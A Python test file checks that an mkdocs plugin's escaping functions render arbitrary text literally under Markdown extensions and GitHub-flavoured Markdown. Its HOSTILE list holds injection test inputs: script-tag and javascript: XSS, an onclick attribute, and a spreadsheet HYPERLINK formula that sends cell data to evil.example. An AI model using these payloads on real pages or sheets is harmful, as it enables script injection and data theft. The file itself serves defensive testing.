"""Text is escaped for what each format acts on, precisely: the pages' Markdown and HTML.

The pages are Markdown that the site's own Markdown renders, with whatever extensions the site
turns on. :func:`~mkdocs_ladder.render.text.inline` must make any text come out as exactly that
text, with no element, under every extension that acts on inline text, while leaving dates, ids,
paths and URLs readable in the HTML source.
"""

from __future__ import annotations

import re

import cmarkgfm
import markdown
import pytest
from cmarkgfm import cmark
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mkdocs_ladder.render.text import github, inline, url

from .sites import parse_html

#: Every extension of Python-Markdown and pymdown-extensions that acts on inline text, as a site
#: with mkdocs-material's recommended set (and more) turns them on. smarty and smartsymbols are
#: left out: they change how quotes, dashes and "(c)" look, not what is markup.
EXTENSIONS = [
    "abbr", "attr_list", "def_list", "footnotes", "md_in_html", "tables", "toc", "admonition",
    "pymdownx.betterem", "pymdownx.caret", "pymdownx.mark", "pymdownx.tilde", "pymdownx.critic",
    "pymdownx.keys", "pymdownx.emoji", "pymdownx.magiclink", "pymdownx.arithmatex",
    "pymdownx.inlinehilite", "pymdownx.superfences", "pymdownx.details", "pymdownx.tasklist",
    "pymdownx.highlight", "pymdownx.escapeall",
]  # fmt: skip
CONFIGS = {
    "pymdownx.magiclink": {"repo_url_shorthand": True, "social_url_shorthand": True, "user": "acme", "repo": "strategy"},
    "pymdownx.arithmatex": {"generic": True},
}
HOSTILE = [
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![img](https://evil.example/x.png)",
    "{: onclick=\"alert('x')\" }",
    "@everyone and @acme/strategy#12 and #12 and !3 and ?4",
    "https://evil.example/?a=b and www.evil.example and ftp.evil.example and a@b.example",
    "*em* _em_ **strong** __strong__ ~sub~ ^sup^ ==mark== ^^ins^^ ~~del~~ ++ctrl+alt++",
    "`code` $x^2$ \\(y\\) :smile: :+1: {++add++} {--del--} [^1] [[ref]] a | b",
    "&amp; &#60; &lt;b&gt; \\* \\_",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\x02wzxhzdk:0\x03 \x00 \x1b]0;title\x07",
]


def shown(html: str) -> tuple[list[str], str]:
    """The elements of rendered HTML, and its text."""
    parsed = parse_html(html)
    return [e.tag for e in parsed.elements], "".join(parsed.text)


def expected(text: str) -> str:
    return "".join(" " if ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 else c for c in text)


def render(source: str) -> str:
    return markdown.markdown(source, extensions=EXTENSIONS, extension_configs=CONFIGS)


@settings(max_examples=400, deadline=None)
@given(st.text())
@example("_a_b_")
def test_any_text_in_a_paragraph_is_shown_as_written_by_every_extension(text):
    tags, words = shown(render(f"x {inline(text)} y"))
    assert tags == ["p"]
    assert words == f"x {expected(text)} y"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_text_in_a_heading_a_list_item_and_a_table_cell_is_shown_as_written(text):
    value = inline(text)
    tags, words = shown(render(f"# x {value} y\n\n- x {value} y\n\n| a |\n|---|\n| x {value} y |\n"))
    assert tags == ["h1", "ul", "li", "table", "thead", "tr", "th", "tbody", "tr", "td"]
    assert words.replace("\n", "") == f"x {expected(text)} y" * 2 + "a" + f"x {expected(text)} y".strip()


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_text_in_a_link_inside_raw_html_stays_text_and_its_attribute(text):
    source = f'<p><a href="{url("https://example.com/" + text)}" title="{inline(text)}">{inline(text)}</a></p>\n\nx <a href="{url(text)}">{inline(text)}</a> y'
    parsed = parse_html(render(source))
    assert [e.tag for e in parsed.elements] == ["p", "a", "p", "a"]
    assert parsed.elements[1].attrs["title"] == expected(text)
    assert parsed.elements[1].attrs["href"] == "https://example.com/" + expected(text)
    assert parsed.elements[3].attrs["href"] == expected(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_as_written(text):
    tags, words = shown(render(f"x {inline(text)} y"))
    assert (tags, words) == (["p"], f"x {expected(text)} y")


@pytest.mark.parametrize(
    "text",
    [
        "2026-11-09",
        "ladder-core_2",
        "../strategy/ladder-core/",
        "https://gitlab.com/acme/app/-/commit/0123abcd",
        "100% done, 3/4; ok?",
        "12:30",
    ],
)
def test_dates_ids_paths_and_urls_stay_readable_in_the_source(text):
    assert str(url(text)) == text
    assert str(inline(text)) == text.replace("://", "&#58;//")  # an autolink is the one thing a URL in text would make


def github_shown(text: str) -> str:
    """What GitHub shows of a value: GFM's reading, the zero-width spaces ladder adds, controls as spaces."""
    return re.sub(r"#(?=\d)", "#\u200b", expected(text).replace("@", "@\u200b"))


@settings(max_examples=300, deadline=None)
@given(st.text())
@example("www.evil.example https://evil.example a@b.example ~~x~~ $x$ | @org/team #12")
def test_any_text_in_a_github_comment_is_shown_as_written_and_mentions_no_one(text):
    html = cmarkgfm.github_flavored_markdown_to_html(f"- x {github(text)} y", options=cmark.Options.CMARK_OPT_UNSAFE)
    tags, words = shown(html)
    assert tags == ["ul", "li"]
    assert words.strip() == f"x {github_shown(text)} y".strip()
    assert not re.search(r"@\w|#\d", words)  # GitHub's mention and reference filters find nothing


def test_a_github_comment_keeps_dates_ids_and_urls_readable():
    assert github('2026-11-09 ladder-core_2 =HYPERLINK("a"&A1) 100%') == '2026-11-09 ladder-core_2 =HYPERLINK("a"&#38;A1) 100%'
